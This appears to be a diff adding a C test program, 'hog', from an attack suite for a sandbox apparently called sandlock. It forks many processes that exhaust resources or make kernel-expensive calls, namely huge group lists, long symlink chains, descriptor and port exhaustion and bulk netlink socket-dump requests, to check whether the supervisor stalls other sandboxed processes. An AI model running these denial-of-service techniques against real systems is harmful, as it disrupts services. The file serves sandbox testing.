@@ -1,0 +1,228 @@
+/* hog - have the supervisor work for long on single calls (threats row 23)
+ *
+ * usage: hog groups | links | descriptors | requests | ports. Many processes make a call each that takes the kernel
+ * milliseconds and more. The others must not notice: to one of their connects the supervisor may come after PATIENCE
+ * seconds of its own work. */
+#include "attack.h"
+#include "others.h"
+
+#include <grp.h>
+#include <linux/inet_diag.h>
+#include <linux/netlink.h>
+#include <linux/sock_diag.h>
+#include <pthread.h>
+#include <sys/prctl.h>
+#include <sys/resource.h>
+#include <sys/stat.h>
+
+enum { GROUPS = 65536, LINKS = 38, LINK_BYTES = 4000, REQUESTS = 200000, DESCRIPTORS = 20000, PORTS = 30000,
+       LOOKS = 20, MORE_LOOKS = 80, LOOK_US = 100000, SYN_SENT = 1 << 2 };
+static const double PATIENCE = 0.4;
+
+/* Each of so many processes does this again and again, or once and stays. */
+static void each(unsigned processes, void (*prepare)(unsigned index), void (*step)(void))
+{
+    for (unsigned i = 0; i < many(processes); i++) {
+        pid_t pid = fork();
+
+        if (pid < 0)
+            broken("no process: %s", strerror(errno));
+        if (pid > 0)
+            continue;
+        prctl(PR_SET_PDEATHSIG, SIGKILL);
+        prepare(i);
+        while (step != NULL)
+            step();
+        pause();
+        _exit(0);
+    }
+}
+
+static void nothing(unsigned index)
+{
+    (void)index;
+}
+
+static void raise_descriptors(void)
+{
+    struct rlimit limit;
+
+    getrlimit(RLIMIT_NOFILE, &limit);
+    limit.rlim_cur = limit.rlim_max < DESCRIPTORS ? limit.rlim_max : DESCRIPTORS;
+    setrlimit(RLIMIT_NOFILE, &limit);
+}
+
+static void connect_to(const char *path)
+{
+    struct sockaddr_un to;
+    socklen_t len = at_unix(&to, path);
+    int s = socket(AF_UNIX, SOCK_STREAM, 0);
+
+    connect(s, (struct sockaddr *)&to, len);
+    close(s);
+}
+
+/* As many groups as there can be, which the kernel tells of together with all else. */
+static void take_groups(unsigned index)
+{
+    static gid_t groups[GROUPS];
+
+    for (size_t i = 0; i < GROUPS; i++)
+        groups[i] = (gid_t)(4000000000 + i);
+    if (setgroups(GROUPS, groups) < 0 && index == 0)
+        answer("setgroups: %s", strerror(errno));
+}
+
+static void connect_to_nobody(void)
+{
+    connect_to("@sandlock-attack.nobody");
+}
+
+/* A path of as many links as there may be, each as long as it may be. */
+static char directory[200];
+
+static void make_links(void)
+{
+    static char text[LINK_BYTES + 32];
+    char name[16];
+    size_t len = 0;
+
+    snprintf(directory, sizeof directory, "%s", in_dir("hog.XXXXXX"));
+    if (mkdtemp(directory) == NULL || chdir(directory) < 0 || mkdir("d", 0700) < 0)
+        broken("no directory: %s", strerror(errno));
+    for (int i = 0; i < LINKS; i++) {
+        for (len = 0; len < LINK_BYTES; len += 5)
+            memcpy(text + len, "d/../", 5);
+        snprintf(text + len, 32, i == 0 ? "nobody" : "l%d", i - 1);
+        snprintf(name, sizeof name, "l%d", i);
+        if (symlink(text, name) < 0)
+            broken("no link: %s", strerror(errno));
+    }
+}
+
+static void remove_links(void)
+{
+    char name[16];
+
+    for (int i = 0; i < LINKS; i++) {
+        snprintf(name, sizeof name, "l%d", i);
+        unlink(name);
+    }
+    if (rmdir("d") < 0 || rmdir(directory) < 0)
+        answer("%s is left: %s", directory, strerror(errno));
+}
+
+static void follow_links(void)
+{
+    connect_to("l37");
+}
+
+static void fill_descriptors(unsigned index)
+{
+    (void)index;
+    raise_descriptors();
+    while (dup(STDIN_FILENO) >= 0)
+        ;
+}
+
+static int netlink;
+
+static void *take_answers(void *unused)
+{
+    static char bytes[65536];
+
+    while (recv(netlink, bytes, sizeof bytes, 0) > 0)
+        ;
+    return unused;
+}
+
+/* A thread: what a process with threads sends by netlink is sent for it. */
+static void open_netlink(unsigned index)
+{
+    int large = 1 << 20;
+    pthread_t thread;
+
+    (void)index;
+    netlink = socket(AF_NETLINK, SOCK_RAW, NETLINK_SOCK_DIAG);
+    setsockopt(netlink, SOL_SOCKET, SO_SNDBUF, &large, sizeof large);
+    setsockopt(netlink, SOL_SOCKET, SO_RCVBUF, &large, sizeof large);
+    pthread_create(&thread, NULL, take_answers, NULL);
+}
+
+/* Thousands of requests in one, each for a look at every TCP socket there is. */
+static void send_requests(void)
+{
+    static char bytes[REQUESTS];
+    struct {
+        struct nlmsghdr header;
+        struct inet_diag_req_v2 request;
+    } one = {{sizeof one, SOCK_DIAG_BY_FAMILY, NLM_F_REQUEST | NLM_F_DUMP, 1, 0},
+             {.sdiag_family = AF_INET, .sdiag_protocol = IPPROTO_TCP, .idiag_states = SYN_SENT}};
+    struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
+
+    for (size_t at = 0; at + sizeof one <= sizeof bytes; at += sizeof one)
+        memcpy(bytes + at, &one, sizeof one);
+    if (sendto(netlink, bytes, sizeof bytes, 0, (struct sockaddr *)&kernel, sizeof kernel) < 0)
+        usleep(1000); /* it is refused */
+}
+
+/* A port of the kernel's choice. Whether there was one. */
+static bool take_port(bool keep)
+{
+    struct sockaddr_in any = at4(PERMITTED, 0);
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    bool taken = s >= 0 && bind(s, (struct sockaddr *)&any, sizeof any) == 0;
+
+    if (!keep)
+        close(s);
+    return taken;
+}
+
+static void take_ports(unsigned index)
+{
+    (void)index;
+    raise_descriptors();
+    while (take_port(true))
+        ;
+}
+
+static void look_for_port(void)
+{
+    take_port(false);
+}
+
+int main(int argc, char **argv)
+{
+    const char *what = argc == 2 ? argv[1] : "";
+    int looks = LOOKS;
+
+    signal(SIGALRM, stalled);
+    start_other();
+    if (strcmp(what, "groups") == 0) {
+        each(40, take_groups, connect_to_nobody);
+    } else if (strcmp(what, "links") == 0) {
+        make_links();
+        each(200, nothing, follow_links);
+    } else if (strcmp(what, "descriptors") == 0) {
+        tried("an unconnected socket", socket(AF_INET, SOCK_STREAM, 0));
+        each(20, fill_descriptors, NULL);
+        looks = MORE_LOOKS; /* it is looked for them now and then */
+    } else if (strcmp(what, "requests") == 0) {
+        each(20, open_netlink, send_requests);
+    } else if (strcmp(what, "ports") == 0) {
+        each(2, take_ports, NULL);
+        sleep(5);
+        each(80, nothing, look_for_port);
+    } else {
+        broken("usage: hog groups | links | descriptors | requests | ports");
+    }
+    usleep(500000);
+    for (int i = 0; i < looks && escapes.used == 0; i++) {
+        others_wait(what, PATIENCE);
+        usleep(LOOK_US);
+    }
+    answer("%s: the others go on", what);
+    if (strcmp(what, "links") == 0)
+        remove_links();
+    return attack_done();
+}
